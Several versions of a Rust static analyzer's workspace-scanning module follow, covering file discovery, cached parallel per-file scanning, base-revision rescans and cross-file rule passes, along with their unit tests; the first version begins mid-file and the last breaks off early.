pub fn find_root(start: &Path) -> Option<PathBuf> {
    let mut dir = Some(start);
    while let Some(d) = dir {
        if d.join("Cargo.toml").is_file() && d.join("crates").is_dir() {
            return Some(d.to_path_buf());
        }
        dir = d.parent();
    }
    None
}

/// The `(crate name, src dir)` pairs of a workspace tree, sorted by
/// name. The root facade package scans as crate `genio`.
fn crate_src_dirs(root: &Path) -> io::Result<Vec<(String, PathBuf)>> {
    let mut out = Vec::new();
    let crates = root.join("crates");
    if crates.is_dir() {
        for entry in fs::read_dir(&crates)? {
            let path = entry?.path();
            let src = path.join("src");
            if src.is_dir() {
                if let Some(name) = path.file_name().and_then(|n| n.to_str()) {
                    out.push((name.to_string(), src));
                }
            }
        }
    }
    let root_src = root.join("src");
    if root_src.is_dir() {
        out.push(("genio".to_string(), root_src));
    }
    out.sort();
    Ok(out)
}

/// Recursively lists `.rs` files under `dir`, sorted.
fn rust_files(dir: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
    let mut entries: Vec<PathBuf> = fs::read_dir(dir)?
        .collect::<Result<Vec<_>, _>>()?
        .into_iter()
        .map(|e| e.path())
        .collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            rust_files(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
    Ok(())
}

fn rel_path(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .components()
        .map(|c| c.as_os_str().to_string_lossy())
        .collect::<Vec<_>>()
        .join("/")
}

/// One file to scan, with everything precomputed on the main thread.
/// `content` overrides the on-disk bytes (base-revision scans).
struct Job {
    crate_name: String,
    path: PathBuf,
    rel: String,
    file_name: String,
    content: Option<String>,
}

/// Per-file result: the cache entry (fresh or reused) plus provenance.
struct Processed {
    crate_name: String,
    rel: String,
    file_name: String,
    entry: FileEntry,
    hit: bool,
}

/// A completed scan plus the per-file facts it computed. [`rescan_with_base`]
/// rebuilds the base-revision report from one of these by re-lexing only
/// the overridden files — no file I/O, hashing or cache traffic for the
/// untouched rest of the tree. This is what makes `--diff` two *small*
/// scans instead of two full ones.
pub struct Snapshot {
    root: PathBuf,
    crates: Vec<(String, PathBuf)>,
    processed: Vec<Processed>,
}

/// One hashed job awaiting either a cache hit or a worker re-scan.
struct Prepared {
    src: String,
    hash: String,
    cached: Option<FileEntry>,
}

/// Lex/scan/summarize one miss (the source is already in memory).
fn process_miss(job: &Job, prep: &Prepared) -> Processed {
    let tokens = tokenize(&prep.src);
    let is_crate_root = job.file_name == "lib.rs" || job.file_name == "main.rs";
    let has_forbid = is_crate_root && has_forbid_unsafe(&tokens);
    let ann = annotate(tokens);
    let ctx = FileContext {
        crate_name: &job.crate_name,
        rel_path: &job.rel,
        file_name: &job.file_name,
    };
    let (findings, accesses) = scan_tokens(&ctx, &ann);
    let allows = collect_allows(&ann);
    Processed {
        crate_name: job.crate_name.clone(),
        rel: job.rel.clone(),
        file_name: job.file_name.clone(),
        entry: FileEntry {
            hash: prep.hash.clone(),
            lines: prep.src.lines().count() as u64,
            is_crate_root,
            has_forbid,
            findings,
            accesses,
            allows,
            summary: summarize(&ann),
        },
        hit: false,
    }
}

/// Serial, uncached scan — the v1 signature, kept for tests and simple
/// callers.
pub fn scan(root: &Path) -> io::Result<Report> {
    scan_with(root, &ScanOptions::default()).map(|(report, _)| report)
}

/// Stage 1: deterministic job discovery (crates sorted, files sorted).
fn discover_jobs(root: &Path) -> io::Result<(Vec<(String, PathBuf)>, Vec<Job>)> {
    let crates = crate_src_dirs(root)?;
    let mut jobs: Vec<Job> = Vec::new();
    for (crate_name, src_dir) in &crates {
        let mut files = Vec::new();
        rust_files(src_dir, &mut files)?;
        for path in files {
            let rel = rel_path(root, &path);
            let file_name = path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            jobs.push(Job {
                crate_name: crate_name.clone(),
                path,
                rel,
                file_name,
                content: None,
            });
        }
    }
    Ok((crates, jobs))
}

/// Full pipeline scan with threading, caching and telemetry.
pub fn scan_with(root: &Path, opts: &ScanOptions) -> io::Result<(Report, ScanStats)> {
    scan_snapshot(root, opts).map(|(report, stats, _)| (report, stats))
}

/// [`scan_with`], but also returns the [`Snapshot`] of per-file facts
/// so a follow-up [`rescan_with_base`] can skip everything untouched.
pub fn scan_snapshot(
    root: &Path,
    opts: &ScanOptions,
) -> io::Result<(Report, ScanStats, Snapshot)> {
    let (crates, jobs) = discover_jobs(root)?;
    let (report, stats, processed) = run_pipeline(root, opts, &crates, &jobs, true)?;
    let snapshot = Snapshot { root: root.to_path_buf(), crates, processed };
    Ok((report, stats, snapshot))
}

/// Scans the workspace *as of a base revision*: `base` maps
/// repo-relative paths of changed files to their base contents
/// (`Some(text)`), or to `None` for files that did not exist at the
/// base. Paths in `base` missing from the current tree (deleted files)
/// are synthesized back in from the provided contents. Cache entries
/// are read (unchanged files still hit) but never written back, so a
/// historical scan can never poison the warm path.
pub fn scan_with_base(
    root: &Path,
    opts: &ScanOptions,
    base: &[(String, Option<String>)],
) -> io::Result<(Report, ScanStats)> {
    let (crates, mut jobs) = discover_jobs(root)?;
    let overrides: std::collections::BTreeMap<&str, &Option<String>> =
        base.iter().map(|(rel, content)| (rel.as_str(), content)).collect();

    // Splice: replace changed files' contents, drop files absent at the
    // base, and re-create deleted files from their base contents.
    jobs.retain(|job| !matches!(overrides.get(job.rel.as_str()), Some(None)));
    let mut present: std::collections::BTreeSet<String> = std::collections::BTreeSet::new();
    for job in &mut jobs {
        present.insert(job.rel.clone());
        if let Some(Some(content)) = overrides.get(job.rel.as_str()) {
            job.content = Some(content.clone());
        }
    }
    for (rel, content) in base {
        let (Some(content), false) = (content, present.contains(rel)) else {
            continue;
        };
        let mut segments = rel.split('/');
        let crate_name = match segments.next() {
            Some("crates") => segments.next().unwrap_or("genio").to_string(),
            Some("src") => "genio".to_string(),
            _ => continue, // not a scanned location at the base either
        };
        jobs.push(Job {
            crate_name,
            path: root.join(rel),
            rel: rel.clone(),
            file_name: rel.rsplit('/').next().unwrap_or(rel).to_string(),
            content: Some(content.clone()),
        });
    }
    jobs.sort_by(|a, b| (&a.crate_name, &a.rel).cmp(&(&b.crate_name, &b.rel)));

    run_pipeline(root, opts, &crates, &jobs, false)
        .map(|(report, stats, _)| (report, stats))
}

/// Rebuilds the report of the spliced base tree from an existing
/// [`Snapshot`]: untouched files reuse their in-memory facts verbatim
/// (per-file facts are purely local, so this is output-identical to a
/// fresh [`scan_with_base`] — a differential test pins it), overridden
/// files are re-lexed from the provided contents, and the cross-file
/// passes run fresh over the rebased fact set.
pub fn rescan_with_base(
    snapshot: &Snapshot,
    opts: &ScanOptions,
    base: &[(String, Option<String>)],
) -> Report {
    let _scan_span = opts.telemetry.span("analyzer.scan");
    let overrides: std::collections::BTreeMap<&str, &Option<String>> =
        base.iter().map(|(rel, content)| (rel.as_str(), content)).collect();

    // Re-lex only the overridden files; everything else is reused.
    let mut fresh: Vec<Processed> = Vec::new();
    let mut reused: Vec<&Processed> = Vec::new();
    let mut present: std::collections::BTreeSet<&str> = std::collections::BTreeSet::new();
    for p in &snapshot.processed {
        present.insert(p.rel.as_str());
        match overrides.get(p.rel.as_str()) {
            Some(None) => {} // absent at the base revision
            Some(Some(content)) => {
                let job = Job {
                    crate_name: p.crate_name.clone(),
                    path: snapshot.root.join(&p.rel),
                    rel: p.rel.clone(),
                    file_name: p.file_name.clone(),
                    content: None,
                };
                let prep = Prepared {
                    src: (*content).clone(),
                    hash: content_hash(content.as_bytes()),
                    cached: None,
                };
                fresh.push(process_miss(&job, &prep));
            }
            None => reused.push(p),
        }
    }
    // Files that only exist at the base revision (deleted since).
    for (rel, content) in base {
        let (Some(content), false) = (content, present.contains(rel.as_str())) else {
            continue;
        };
        let mut segments = rel.split('/');
        let crate_name = match segments.next() {
            Some("crates") => segments.next().unwrap_or("genio").to_string(),
            Some("src") => "genio".to_string(),
            _ => continue,
        };
        let job = Job {
            crate_name,
            path: snapshot.root.join(rel),
            rel: rel.clone(),
            file_name: rel.rsplit('/').next().unwrap_or(rel).to_string(),
            content: None,
        };
        let prep = Prepared {
            src: content.clone(),
            hash: content_hash(content.as_bytes()),
            cached: None,
        };
        fresh.push(process_miss(&job, &prep));
    }

    let mut rebased: Vec<&Processed> = reused;
    rebased.extend(fresh.iter());
    rebased.sort_by(|a, b| (&a.crate_name, &a.rel).cmp(&(&b.crate_name, &b.rel)));
    assemble_report(&snapshot.root, opts, &snapshot.crates, &rebased)
}

/// Stages 2–6 over a prepared job list.
fn run_pipeline(
    root: &Path,
    opts: &ScanOptions,
    crates: &[(String, PathBuf)],
    jobs: &[Job],
    write_back: bool,
) -> io::Result<(Report, ScanStats, Vec<Processed>)> {
    let _scan_span = opts.telemetry.span("analyzer.scan");

    let cache = match &opts.cache_path {
        Some(p) => Cache::load(p),
        None => Cache::default(),
    };

    // Stage 2: read + hash on the main thread, then dependency-aware
    // invalidation — a changed file's (previously cached) function
    // definitions drag every cached caller back into the re-scan set.
    // Per-file facts are purely local, so this is output-neutral; it
    // keeps the cache honest about what a change *touches* and feeds
    // the `--diff` cost model.
    let mut prepared: Vec<Prepared> = Vec::with_capacity(jobs.len());
    for job in jobs {
        let src = match &job.content {
            Some(text) => text.clone(),
            None => String::from_utf8_lossy(&fs::read(&job.path)?).into_owned(),
        };
        let hash = content_hash(src.as_bytes());
        let cached = cache.lookup(&job.rel, &hash).cloned();
        prepared.push(Prepared { src, hash, cached });
    }
    let mut changed_defs: std::collections::BTreeSet<&str> = std::collections::BTreeSet::new();
    for (job, prep) in jobs.iter().zip(&prepared) {
        if prep.cached.is_none() {
            // The *old* definitions: what callers compiled against.
            if let Some(stale) = cache.entries.get(&job.rel) {
                changed_defs.extend(stale.summary.functions.iter().map(|f| f.name.as_str()));
            }
        }
    }
    let mut dep_invalidated = 0u64;
    if !changed_defs.is_empty() {
        for prep in &mut prepared {
            let calls_changed = prep.cached.as_ref().is_some_and(|entry| {
                entry.summary.functions.iter().any(|f| {
                    f.calls.iter().any(|c| changed_defs.contains(c.callee.as_str()))
                })
            });
            if calls_changed {
                prep.cached = None;
                dep_invalidated += 1;
            }
        }
    }

    // Stage 3: parallel per-file pass over the misses, contiguous
    // chunks merged back in job order so the thread count can never
    // change the report.
    let misses: Vec<usize> = prepared
        .iter()
        .enumerate()
        .filter(|(_, p)| p.cached.is_none())
        .map(|(i, _)| i)
        .collect();
    let auto = std::thread::available_parallelism()
        .map(NonZeroUsize::get)
        .unwrap_or(1);
    let threads = match opts.threads {
        0 => auto,
        n => n,
    }
    .clamp(1, misses.len().max(1));
    let chunk_size = misses.len().div_ceil(threads).max(1);

    let mut processed: Vec<Option<Processed>> = Vec::with_capacity(jobs.len());
    processed.resize_with(jobs.len(), || None);
    {
        let _files_span = opts.telemetry.span("analyzer.files");
        let mut chunk_results: Vec<Vec<(usize, Processed)>> = Vec::new();
        std::thread::scope(|scope| {
            let mut handles = Vec::new();
            for chunk in misses.chunks(chunk_size.max(1)) {
                let prepared = &prepared;
                handles.push(scope.spawn(move || {
                    chunk
                        .iter()
                        .map(|&i| (i, process_miss(&jobs[i], &prepared[i])))
                        .collect::<Vec<_>>()
                }));
            }
            for handle in handles {
                if let Ok(done) = handle.join() {
                    chunk_results.push(done);
                }
            }
        });
        for done in chunk_results {
            for (i, p) in done {
                processed[i] = Some(p);
            }
        }
    }
    let processed: Vec<Processed> = jobs
        .iter()
        .zip(prepared)
        .zip(processed)
        .map(|((job, mut prep), fresh)| {
            if let Some(p) = fresh {
                return p;
            }
            match prep.cached.take() {
                Some(entry) => Processed {
                    crate_name: job.crate_name.clone(),
                    rel: job.rel.clone(),
                    file_name: job.file_name.clone(),
                    entry,
                    hit: true,
                },
                // A worker died before delivering this miss; re-scan
                // it serially rather than panicking the whole scan.
                None => process_miss(job, &prep),
            }
        })
        .collect();

    let mut stats = ScanStats {
        files: processed.len() as u64,
        cache_hits: processed.iter().filter(|p| p.hit).count() as u64,
        cache_misses: processed.iter().filter(|p| !p.hit).count() as u64,
        dep_invalidated,
        threads,
    };

    let refs: Vec<&Processed> = processed.iter().collect();
    let report = assemble_report(root, opts, crates, &refs);

    // Stage 5: cache write-back, only when something was re-scanned and
    // never from a base-revision scan (its spliced contents would
    // poison the warm path for real files).
    if let Some(path) = &opts.cache_path {
        if write_back && stats.cache_misses > 0 {
            let mut fresh = Cache::default();
            for p in &processed {
                fresh.entries.insert(p.rel.clone(), p.entry.clone());
            }
            fresh.save(path)?;
        }
    }
    stats.files = report.files;
    Ok((report, stats, processed))
}

/// Stages 3a–4: cross-file passes and suppression over an ordered set
/// of per-file facts. Pure — shared by live scans and base-revision
/// rebases, which is what guarantees `--diff` compares equal work.
fn assemble_report(
    root: &Path,
    opts: &ScanOptions,
    crates: &[(String, PathBuf)],
    processed: &[&Processed],
) -> Report {
    // Stage 3a: R3 per crate (needs every root of the crate).
    let mut report = Report::default();
    for (crate_name, src_dir) in crates {
        let of_crate: Vec<&&Processed> =
            processed.iter().filter(|p| &p.crate_name == crate_name).collect();
        if of_crate.is_empty() {
            continue;
        }
        let saw_forbid = of_crate
            .iter()
            .any(|p| p.entry.is_crate_root && p.entry.has_forbid);
        if !saw_forbid {
            let lib_rel = of_crate
                .iter()
                .find(|p| p.file_name == "lib.rs")
                .map(|p| p.rel.clone())
                .unwrap_or_else(|| rel_path(root, &src_dir.join("lib.rs")));
            report.findings.push(Finding {
                rule: Rule::R3MissingForbid,
                file: lib_rel,
                line: 1,
                function: "-".to_string(),
                detail: "crate root missing #![forbid(unsafe_code)]".to_string(),
                confirmed: None,
            });
        }
    }

    // Stage 3b: sast bridge per file, then the interprocedural walks.
    let mut facts: Vec<FileFacts> = Vec::with_capacity(processed.len());
    let mut allow_map: std::collections::BTreeMap<String, Vec<Allow>> =
        std::collections::BTreeMap::new();
    for p in processed {
        report.files += 1;
        report.lines += p.entry.lines;
        if !p.entry.allows.is_empty() {
            allow_map.insert(p.rel.clone(), p.entry.allows.clone());
        }
        facts.push(FileFacts {
            crate_name: p.crate_name.clone(),
            rel_path: p.rel.clone(),
            summary: p.entry.summary.clone(),
            findings: bridge::confirm(p.entry.findings.clone(), &p.entry.accesses),
            accesses: p.entry.accesses.clone(),
        });
    }
    let outcome = {
        let _flow_span = opts.telemetry.span("analyzer.dataflow");
        dataflow::run(&facts)
    };
    report.findings.extend(outcome.findings);
    report.suppressed = outcome.suppressed.len() as u64;
    if [Rule::R10SecretBranch, Rule::R11SecretIndex, Rule::R12VariableTimeOp]
        .iter()
        .any(|&r| opts.wants(r))
    {
        let _side_span = opts.telemetry.span("analyzer.sidechannel");
        report.findings.extend(sidechannel::run(&facts));
    }
    if [Rule::R13LockOrderCycle, Rule::R14RelaxedSyncFlag]
        .iter()
        .any(|&r| opts.wants(r))
    {
        let _conc_span = opts.telemetry.span("analyzer.concurrency");
        report.findings.extend(concurrency::run(&facts));
    }
    if opts.wants(Rule::R16PanicReachable) {
        let _pf_span = opts.telemetry.span("analyzer.panicfree");
        report.findings.extend(crate::panicfree::run(&facts));
    }
    if opts.wants(Rule::R17SecretLifecycle) {
        let _lc_span = opts.telemetry.span("analyzer.lifecycle");
        report.findings.extend(crate::lifecycle::run(&facts));
    }

    // Stage 4: line-scoped `allow(...)` suppression, then the optional
    // rule filter. Suppressions are counted (`allowed`) so a report
    // never silently shrinks; the filter is a view, not a suppression.
    let mut allowed = 0u64;
    report.findings.retain(|f| {
        let covered = allow_map
            .get(&f.file)
            .is_some_and(|allows| allows.iter().any(|a| a.covers(f.rule, f.line)));
        if covered {
            allowed += 1;
        }
        !covered
    });
    report.allowed = allowed;
    if opts.rules.is_some() {
        report.findings.retain(|f| opts.wants(f.rule));
    }
    sort_findings(&mut report.findings);
    report
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn find_root_walks_upward() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root above crates/analyzer");
        assert!(root.join("crates").join("analyzer").is_dir());
    }

    #[test]
    fn self_scan_covers_every_crate() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root");
        let report = scan(&root).expect("scan succeeds");
        // 14 seed crates + analyzer + the root facade, each with files.
        let dirs = crate_src_dirs(&root).expect("layout readable");
        assert!(dirs.len() >= 15, "expected >=15 src trees, got {}", dirs.len());
        assert!(report.files > 100, "scanned only {} files", report.files);
        assert!(report.lines > 10_000);
    }

    #[test]
    fn explicit_thread_counts_agree_with_serial() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root");
        let serial = ScanOptions { threads: 1, ..ScanOptions::default() };
        let wide = ScanOptions { threads: 4, ..ScanOptions::default() };
        let (a, sa) = scan_with(&root, &serial).expect("serial scan");
        let (b, sb) = scan_with(&root, &wide).expect("parallel scan");
        assert_eq!(sa.threads, 1);
        assert!(sb.threads >= 1);
        assert_eq!(a.to_json().to_string(), b.to_json().to_string());
    }
}
