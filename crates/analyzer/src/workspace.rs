//! Workspace discovery and the full multi-stage scan.
//!
//! The unit of scanning is a *workspace tree*: a directory with a
//! `crates/<name>/src/` layout (plus an optional root `src/` for the
//! facade package). The real repository and the fixture corpora under
//! `tests/` share this shape, so every test drives the exact code path
//! the verify gate runs.
//!
//! [`scan_with`] runs the v2 pipeline:
//!
//! 1. **discover** — enumerate crate src trees and their `.rs` files
//!    into a sorted, deterministic job list;
//! 2. **per-file pass** (parallel) — hash each file, reuse the
//!    [`crate::cache`] entry when the hash matches, otherwise tokenize,
//!    annotate, rule-scan and summarize. Jobs are split into contiguous
//!    chunks over `std::thread` scoped workers and the results merged
//!    back *in job order*, so the thread count can never change the
//!    report;
//! 3. **cross-file passes** (serial, always fresh) — R3 per crate, the
//!    sast bridge per file, then the interprocedural
//!    [`crate::dataflow`] walk, the [`crate::sidechannel`] pass
//!    (R10–R12) and the [`crate::concurrency`] pass (R13–R14) over the
//!    whole workspace;
//! 4. **suppression + filter** — findings covered by a line-scoped
//!    `// genio-analyzer: allow(...)` comment are dropped (counted in
//!    the report's `allowed` field), then an optional
//!    [`ScanOptions::rules`] filter trims the report to the selected
//!    rules;
//! 5. **cache write-back** — only when at least one file missed.
//!
//! Stage timings are recorded as `genio-telemetry` spans
//! (`analyzer.scan`, `analyzer.files`, `analyzer.dataflow`,
//! `analyzer.sidechannel`, `analyzer.concurrency`) on the calling
//! thread; cache traffic lands in [`ScanStats`], *not* in the report,
//! so cold and warm scans stay byte-identical.

use std::fs;
use std::io;
use std::num::NonZeroUsize;
use std::path::{Path, PathBuf};

use genio_telemetry::Telemetry;

use crate::baseline::{sort_findings, Report};
use crate::bridge;
use crate::cache::{content_hash, Cache, FileEntry};
use crate::callgraph::FileFacts;
use crate::concurrency;
use crate::dataflow;
use crate::lexer::tokenize;
use crate::rules::{
    annotate, collect_allows, has_forbid_unsafe, scan_tokens, Allow, FileContext,
    Finding, Rule,
};
use crate::sidechannel;
use crate::summary::summarize;

/// Knobs for [`scan_with`]. `Default` is a serial, uncached, untimed
/// scan — exactly what the fixture tests want.
#[derive(Default)]
pub struct ScanOptions {
    /// Worker threads for the per-file pass; `0` means one per
    /// available CPU.
    pub threads: usize,
    /// Cache file to read and write back; `None` disables caching.
    pub cache_path: Option<PathBuf>,
    /// Telemetry handle for stage spans (disabled handles are no-ops).
    pub telemetry: Telemetry,
    /// Restrict the report to these rules (`None` keeps all). Passes
    /// whose every rule is filtered out are skipped entirely, which is
    /// what the E-A3 bench uses to price the new passes.
    pub rules: Option<Vec<Rule>>,
}

impl ScanOptions {
    fn wants(&self, rule: Rule) -> bool {
        self.rules.as_ref().map_or(true, |rs| rs.contains(&rule))
    }
}

/// Side-channel facts about a scan that must stay out of the report.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScanStats {
    /// Files visited.
    pub files: u64,
    /// Files served from the cache.
    pub cache_hits: u64,
    /// Files re-scanned.
    pub cache_misses: u64,
    /// Worker threads actually used.
    pub threads: usize,
}

/// Locates the enclosing workspace root by walking up from `start`
/// until a directory containing both `Cargo.toml` and `crates/` is
/// found.
pub fn find_root(start: &Path) -> Option<PathBuf> {
    let mut dir = Some(start);
    while let Some(d) = dir {
        if d.join("Cargo.toml").is_file() && d.join("crates").is_dir() {
            return Some(d.to_path_buf());
        }
        dir = d.parent();
    }
    None
}

/// The `(crate name, src dir)` pairs of a workspace tree, sorted by
/// name. The root facade package scans as crate `genio`.
fn crate_src_dirs(root: &Path) -> io::Result<Vec<(String, PathBuf)>> {
    let mut out = Vec::new();
    let crates = root.join("crates");
    if crates.is_dir() {
        for entry in fs::read_dir(&crates)? {
            let path = entry?.path();
            let src = path.join("src");
            if src.is_dir() {
                if let Some(name) = path.file_name().and_then(|n| n.to_str()) {
                    out.push((name.to_string(), src));
                }
            }
        }
    }
    let root_src = root.join("src");
    if root_src.is_dir() {
        out.push(("genio".to_string(), root_src));
    }
    out.sort();
    Ok(out)
}

/// Recursively lists `.rs` files under `dir`, sorted.
fn rust_files(dir: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
    let mut entries: Vec<PathBuf> = fs::read_dir(dir)?
        .collect::<Result<Vec<_>, _>>()?
        .into_iter()
        .map(|e| e.path())
        .collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            rust_files(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
    Ok(())
}

fn rel_path(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .components()
        .map(|c| c.as_os_str().to_string_lossy())
        .collect::<Vec<_>>()
        .join("/")
}

/// One file to scan, with everything precomputed on the main thread.
struct Job {
    crate_name: String,
    path: PathBuf,
    rel: String,
    file_name: String,
}

/// Per-file result: the cache entry (fresh or reused) plus provenance.
struct Processed {
    crate_name: String,
    rel: String,
    file_name: String,
    entry: FileEntry,
    hit: bool,
}

/// Runs the per-file pipeline for one job, consulting the cache.
fn process_one(job: &Job, cache: &Cache) -> io::Result<Processed> {
    let bytes = fs::read(&job.path)?;
    let src = String::from_utf8_lossy(&bytes);
    let hash = content_hash(&bytes);
    if let Some(entry) = cache.lookup(&job.rel, &hash) {
        return Ok(Processed {
            crate_name: job.crate_name.clone(),
            rel: job.rel.clone(),
            file_name: job.file_name.clone(),
            entry: entry.clone(),
            hit: true,
        });
    }
    let tokens = tokenize(&src);
    let is_crate_root = job.file_name == "lib.rs" || job.file_name == "main.rs";
    let has_forbid = is_crate_root && has_forbid_unsafe(&tokens);
    let ann = annotate(tokens);
    let ctx = FileContext {
        crate_name: &job.crate_name,
        rel_path: &job.rel,
        file_name: &job.file_name,
    };
    let (findings, accesses) = scan_tokens(&ctx, &ann);
    let allows = collect_allows(&ann);
    Ok(Processed {
        crate_name: job.crate_name.clone(),
        rel: job.rel.clone(),
        file_name: job.file_name.clone(),
        entry: FileEntry {
            hash,
            lines: src.lines().count() as u64,
            is_crate_root,
            has_forbid,
            findings,
            accesses,
            allows,
            summary: summarize(&ann),
        },
        hit: false,
    })
}

fn process_chunk(jobs: &[Job], cache: &Cache) -> io::Result<Vec<Processed>> {
    jobs.iter().map(|j| process_one(j, cache)).collect()
}

/// Serial, uncached scan — the v1 signature, kept for tests and simple
/// callers.
pub fn scan(root: &Path) -> io::Result<Report> {
    scan_with(root, &ScanOptions::default()).map(|(report, _)| report)
}

/// Full pipeline scan with threading, caching and telemetry.
pub fn scan_with(root: &Path, opts: &ScanOptions) -> io::Result<(Report, ScanStats)> {
    let _scan_span = opts.telemetry.span("analyzer.scan");

    // Stage 1: discovery (deterministic job order).
    let crates = crate_src_dirs(root)?;
    let mut jobs: Vec<Job> = Vec::new();
    for (crate_name, src_dir) in &crates {
        let mut files = Vec::new();
        rust_files(src_dir, &mut files)?;
        for path in files {
            let rel = rel_path(root, &path);
            let file_name = path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            jobs.push(Job { crate_name: crate_name.clone(), path, rel, file_name });
        }
    }

    let cache = match &opts.cache_path {
        Some(p) => Cache::load(p),
        None => Cache::default(),
    };

    // Stage 2: parallel per-file pass over contiguous chunks, merged in
    // job order so the report is independent of the thread count.
    let auto = std::thread::available_parallelism()
        .map(NonZeroUsize::get)
        .unwrap_or(1);
    let threads = match opts.threads {
        0 => auto,
        n => n,
    }
    .clamp(1, jobs.len().max(1));
    let chunk_size = jobs.len().div_ceil(threads).max(1);

    let mut processed: Vec<Processed> = Vec::with_capacity(jobs.len());
    {
        let _files_span = opts.telemetry.span("analyzer.files");
        let mut chunk_results: Vec<io::Result<Vec<Processed>>> = Vec::new();
        std::thread::scope(|scope| {
            let mut handles = Vec::new();
            for chunk in jobs.chunks(chunk_size) {
                let cache_ref = &cache;
                handles.push(scope.spawn(move || process_chunk(chunk, cache_ref)));
            }
            for handle in handles {
                chunk_results.push(handle.join().unwrap_or_else(|_| {
                    Err(io::Error::other("analyzer scan worker panicked"))
                }));
            }
        });
        for result in chunk_results {
            processed.extend(result?);
        }
    }

    let mut stats = ScanStats {
        files: processed.len() as u64,
        cache_hits: processed.iter().filter(|p| p.hit).count() as u64,
        cache_misses: processed.iter().filter(|p| !p.hit).count() as u64,
        threads,
    };

    // Stage 3a: R3 per crate (needs every root of the crate).
    let mut report = Report::default();
    for (crate_name, src_dir) in &crates {
        let of_crate: Vec<&Processed> =
            processed.iter().filter(|p| &p.crate_name == crate_name).collect();
        if of_crate.is_empty() {
            continue;
        }
        let saw_forbid = of_crate
            .iter()
            .any(|p| p.entry.is_crate_root && p.entry.has_forbid);
        if !saw_forbid {
            let lib_rel = of_crate
                .iter()
                .find(|p| p.file_name == "lib.rs")
                .map(|p| p.rel.clone())
                .unwrap_or_else(|| rel_path(root, &src_dir.join("lib.rs")));
            report.findings.push(Finding {
                rule: Rule::R3MissingForbid,
                file: lib_rel,
                line: 1,
                function: "-".to_string(),
                detail: "crate root missing #![forbid(unsafe_code)]".to_string(),
                confirmed: None,
            });
        }
    }

    // Stage 3b: sast bridge per file, then the interprocedural walks.
    let mut facts: Vec<FileFacts> = Vec::with_capacity(processed.len());
    let mut allow_map: std::collections::BTreeMap<String, Vec<Allow>> =
        std::collections::BTreeMap::new();
    for p in &processed {
        report.files += 1;
        report.lines += p.entry.lines;
        if !p.entry.allows.is_empty() {
            allow_map.insert(p.rel.clone(), p.entry.allows.clone());
        }
        facts.push(FileFacts {
            crate_name: p.crate_name.clone(),
            rel_path: p.rel.clone(),
            summary: p.entry.summary.clone(),
            findings: bridge::confirm(p.entry.findings.clone(), &p.entry.accesses),
            accesses: p.entry.accesses.clone(),
        });
    }
    let outcome = {
        let _flow_span = opts.telemetry.span("analyzer.dataflow");
        dataflow::run(&facts)
    };
    report.findings.extend(outcome.findings);
    report.suppressed = outcome.suppressed.len() as u64;
    if [Rule::R10SecretBranch, Rule::R11SecretIndex, Rule::R12VariableTimeOp]
        .iter()
        .any(|&r| opts.wants(r))
    {
        let _side_span = opts.telemetry.span("analyzer.sidechannel");
        report.findings.extend(sidechannel::run(&facts));
    }
    if [Rule::R13LockOrderCycle, Rule::R14RelaxedSyncFlag]
        .iter()
        .any(|&r| opts.wants(r))
    {
        let _conc_span = opts.telemetry.span("analyzer.concurrency");
        report.findings.extend(concurrency::run(&facts));
    }

    // Stage 4: line-scoped `allow(...)` suppression, then the optional
    // rule filter. Suppressions are counted (`allowed`) so a report
    // never silently shrinks; the filter is a view, not a suppression.
    let mut allowed = 0u64;
    report.findings.retain(|f| {
        let covered = allow_map
            .get(&f.file)
            .is_some_and(|allows| allows.iter().any(|a| a.covers(f.rule, f.line)));
        if covered {
            allowed += 1;
        }
        !covered
    });
    report.allowed = allowed;
    if opts.rules.is_some() {
        report.findings.retain(|f| opts.wants(f.rule));
    }
    sort_findings(&mut report.findings);

    // Stage 5: cache write-back, only when something was re-scanned.
    if let Some(path) = &opts.cache_path {
        if stats.cache_misses > 0 {
            let mut fresh = Cache::default();
            for p in processed {
                fresh.entries.insert(p.rel, p.entry);
            }
            fresh.save(path)?;
        }
    }
    stats.files = report.files;
    Ok((report, stats))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn find_root_walks_upward() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root above crates/analyzer");
        assert!(root.join("crates").join("analyzer").is_dir());
    }

    #[test]
    fn self_scan_covers_every_crate() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root");
        let report = scan(&root).expect("scan succeeds");
        // 14 seed crates + analyzer + the root facade, each with files.
        let dirs = crate_src_dirs(&root).expect("layout readable");
        assert!(dirs.len() >= 15, "expected >=15 src trees, got {}", dirs.len());
        assert!(report.files > 100, "scanned only {} files", report.files);
        assert!(report.lines > 10_000);
    }

    #[test]
    fn explicit_thread_counts_agree_with_serial() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root");
        let serial = ScanOptions { threads: 1, ..ScanOptions::default() };
        let wide = ScanOptions { threads: 4, ..ScanOptions::default() };
        let (a, sa) = scan_with(&root, &serial).expect("serial scan");
        let (b, sb) = scan_with(&root, &wide).expect("parallel scan");
        assert_eq!(sa.threads, 1);
        assert!(sb.threads >= 1);
        assert_eq!(a.to_json().to_string(), b.to_json().to_string());
    }
}
