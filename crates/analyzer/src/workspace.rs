//! Workspace discovery and the full self-scan.
//!
//! The unit of scanning is a *workspace tree*: a directory with a
//! `crates/<name>/src/` layout (plus an optional root `src/` for the
//! facade package). The real repository and the fixture corpora under
//! `tests/` share this shape, so every test drives the exact code path
